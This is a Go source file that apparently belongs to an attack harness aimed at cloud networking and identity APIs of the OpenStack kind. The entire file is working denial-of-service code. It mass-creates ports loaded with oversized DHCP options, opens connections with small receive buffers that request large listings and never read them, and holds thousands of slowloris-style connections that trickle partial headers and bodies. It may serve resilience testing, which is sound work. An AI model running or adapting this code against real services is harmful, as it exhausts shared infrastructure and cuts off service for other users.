package main

import (
	"fmt"
	"net"
	"net/http"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// slowReaders fills the quota of ports with as many options as fit, and asks for the
// list from connections that never read.
func slowReaders(a *attack) error {
	if err := a.manyPorts(450, 40); err != nil {
		return err
	}
	var all []net.Conn
	defer func() {
		for _, c := range all {
			c.Close()
		}
	}()
	for range 60 {
		c, err := a.dial(networking, 2048)
		if err != nil {
			return err
		}
		all = append(all, c)
		if _, err := fmt.Fprintf(c, "GET /v2.0/ports HTTP/1.1\r\nHost: x\r\nX-Auth-Token: %s\r\n\r\n", a.member.token); err != nil {
			return err
		}
	}
	time.Sleep(2 * a.span)
	return nil
}

// manyPorts makes ports with options, in bulk.
func (a *attack) manyPorts(ports, options int) error {
	const once = 45
	var opts []map[string]string
	for i := range options {
		opts = append(opts, map[string]string{"opt_name": fmt.Sprint(100 + i), "opt_value": strings.Repeat("x", 250)})
	}
	for range ports / once {
		var in []map[string]any
		for range once {
			in = append(in, map[string]any{"network_id": a.Attacker.Own["network"], "extra_dhcp_opts": opts})
		}
		if err := a.member.must(http.MethodPost, "/v2.0/ports", map[string]any{"ports": in}, nil); err != nil {
			return err
		}
	}
	return nil
}

// dial opens a connection with a receive buffer of a size, or of the usual one for 0.
func (a *attack) dial(url string, buffer int) (net.Conn, error) {
	d := net.Dialer{Timeout: 5 * time.Second, LocalAddr: &net.TCPAddr{IP: net.ParseIP(a.from)}}
	d.Control = func(_, _ string, raw syscall.RawConn) error {
		if buffer == 0 {
			return nil
		}
		var failed error
		err := raw.Control(func(fd uintptr) { failed = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_RCVBUF, buffer) })
		if err == nil {
			err = failed
		}
		return err
	}
	host, _, _ := strings.Cut(strings.TrimPrefix(url, "http://"), "/")
	return d.Dial("tcp", host)
}

// slowSenders opens bodies that do not end and headers that do not end, a byte now and
// then, and opens them again where they are closed.
func slowSenders(a *attack) error {
	openings := []struct{ url, begin string }{
		{identity, "POST /v3/auth/tokens HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n{"},
		{networking, "GET /v2"},
	}
	all := make([]net.Conn, 3000)
	defer func() {
		for _, c := range all {
			if c != nil {
				c.Close()
			}
		}
	}()
	for end := time.Now().Add(2 * a.span); time.Now().Before(end); time.Sleep(2 * time.Second) {
		for i := range all {
			if all[i] != nil {
				if _, err := all[i].Write([]byte(" ")); err == nil {
					continue
				}
				all[i].Close()
				all[i] = nil
			}
			o := openings[i%len(openings)]
			c, err := a.dial(o.url, 0)
			if err != nil {
				continue // refused, which is what it may come to
			}
			all[i] = c
			c.Write([]byte(o.begin))
		}
	}
	return nil
}
